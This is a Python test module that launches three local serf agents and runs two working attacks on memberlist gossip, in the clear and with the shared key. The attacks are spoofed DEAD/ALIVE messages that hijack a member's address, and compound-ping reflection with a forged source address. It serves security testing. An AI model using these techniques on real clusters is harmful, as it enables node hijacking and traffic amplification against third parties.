"""The same two attacks on serf (memberlist): in the clear, and with the key that every member has.

Wire format from memberlist's source: a type byte and a msgpack map per message, a compound of up
to 255 of them in one packet, and with a key AES-GCM around the whole packet.
"""

import base64
import os
import re
import shutil
import socket
import subprocess
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import msgpack
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

from tests.attacks.evil_member import HOST
from tests.attacks.on_mesh import (
    LISTEN_S,
    PINGS,
    RECEIVE_BYTES,
    WATCH_S,
    Hijack,
    Reflection,
)

NODES = ("n1", "n2", "n3")
VICTIM = "n3"
PORT = 17_946
RPC_PORT = 17_373
START_LIMIT_S = 15.0
KEY_BYTES = 32
COMPOUND_MAX = 127
"""memberlist before 0.3 counts the bytes of more than so many lengths in one byte."""
PING, ALIVE, DEAD, COMPOUND = 0, 4, 5, 7
RAISED = 1000
VERSIONS = bytes((1, 5, 2, 2, 5, 4))
"""Protocol: lowest, highest, current; then the same of serf's own."""
NO_TAGS = b"\xff\x80"
LINE = re.compile(r"^(\S+)\s+(\S+)\s+(\S+)")


def is_installed() -> bool:
    """Whether there is a serf to attack."""
    return shutil.which("serf") is not None


def message(kind: int, **fields: object) -> bytes:
    """Return one memberlist message."""
    packed: bytes = msgpack.packb(fields, use_bin_type=False)
    return bytes((kind,)) + packed


def compound(messages: list[bytes]) -> bytes:
    """Return a packet of many messages."""
    lengths = b"".join(len(each).to_bytes(2, "big") for each in messages)
    return bytes((COMPOUND, len(messages))) + lengths + b"".join(messages)


@dataclass(frozen=True, slots=True)
class Serf:
    """Three agents on loopback addresses of their own, and what an attacker knows of them."""

    folder: Path
    key: bytes | None

    def address(self, name: str) -> str:
        """Return where an agent is bound."""
        return f"127.0.7.{NODES.index(name) + 1}"

    def send(self, port: socket.socket, target: str, packet: bytes) -> int:
        """Send a packet as a holder of the key would; returns its bytes."""
        if self.key is not None:
            nonce = os.urandom(12)
            packet = b"\x01" + nonce + AESGCM(self.key).encrypt(nonce, packet, None)
        return port.sendto(packet, (self.address(target), PORT))

    def members(self) -> dict[str, tuple[str, str]]:
        """Return name -> (address, status) as n1 shows it."""
        rpc = f"-rpc-addr={self.address('n1')}:{RPC_PORT}"
        shown = subprocess.run(
            ["serf", "members", rpc], capture_output=True, text=True, check=False
        ).stdout
        found = (LINE.match(line) for line in shown.splitlines())
        return {each[1]: (each[2], each[3]) for each in found if each}

    def arguments(self, name: str) -> list[str]:
        """Return the command line of an agent."""
        own = self.address(name)
        arguments = [
            *("serf", "agent", f"-node={name}", f"-bind={own}:{PORT}"),
            *(f"-rpc-addr={own}:{RPC_PORT}", "-profile=local"),
        ]
        if self.key is not None:
            arguments.append(f"-encrypt={base64.b64encode(self.key).decode()}")
        if name != NODES[0]:
            arguments.append(f"-join={self.address(NODES[0])}:{PORT}")
        return arguments


@contextmanager
def serf(*, encrypted: bool) -> Iterator[Serf]:
    """Run three agents that see each other."""
    with tempfile.TemporaryDirectory() as folder:
        cluster = Serf(Path(folder), os.urandom(KEY_BYTES) if encrypted else None)
        agents = []
        try:
            for name in NODES:
                with (cluster.folder / f"{name}.log").open("wb") as log:
                    agents.append(subprocess.Popen(cluster.arguments(name), stdout=log, stderr=log))
                time.sleep(0.3)
            end = time.monotonic() + START_LIMIT_S
            while len(cluster.members()) < len(NODES):
                if time.monotonic() > end:
                    raise TimeoutError("serf agents do not see each other")
                time.sleep(0.1)
            time.sleep(1.0)
            yield cluster
        finally:
            for agent in agents:
                agent.kill()
                agent.wait()


def hijack(cluster: Serf) -> Hijack:
    """Say goodbye for the victim, then announce it at the attacker's address."""
    goodbye = message(DEAD, Incarnation=RAISED, Node=VICTIM, From=VICTIM)
    moved = message(
        ALIVE,
        Incarnation=RAISED + 1,
        Node=VICTIM,
        Addr=socket.inet_aton("127.0.7.99"),
        Port=PORT,
        Meta=NO_TAGS,
        Vsn=VERSIONS,
    )
    statuses: dict[str, None] = {}
    addresses: dict[str, None] = {}
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as port:
        end = time.monotonic() + WATCH_S
        for packet in (goodbye, moved):
            cluster.send(port, "n1", packet)
            for _ in range(4):
                _note(cluster, statuses, addresses)
        while time.monotonic() < end:
            _note(cluster, statuses, addresses)
    return Hijack(tuple(statuses), tuple(addresses))


def _note(cluster: Serf, statuses: dict[str, None], addresses: dict[str, None]) -> None:
    shown = cluster.members().get(VICTIM)
    if shown is None:
        statuses["gone"] = None
        return
    addresses[shown[0]] = None
    statuses[shown[1]] = None


def reflect(cluster: Serf, *, named_in_payload: bool) -> Reflection:
    """Send 255 pings in as few packets as hold them; the answers go to somebody else."""
    with (
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as attacker,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as victim,
    ):
        victim.bind((HOST, 0))
        victim.settimeout(0.05)
        fields: dict[str, object] = {"Node": "n1"}
        if named_in_payload:
            fields["SourceAddr"] = socket.inet_aton(HOST)
            fields["SourcePort"] = victim.getsockname()[1]
        pings = [message(PING, SeqNo=number, **fields) for number in range(PINGS)]
        source = attacker if named_in_payload else victim
        sent = sum(
            cluster.send(source, "n1", compound(pings[at : at + COMPOUND_MAX]))
            for at in range(0, PINGS, COMPOUND_MAX)
        )
        sizes: list[int] = []
        end = time.monotonic() + LISTEN_S
        while time.monotonic() < end:
            try:
                sizes.append(len(victim.recv(RECEIVE_BYTES)))
            except TimeoutError:
                continue
    return Reflection(sent, sum(sizes), len(sizes))
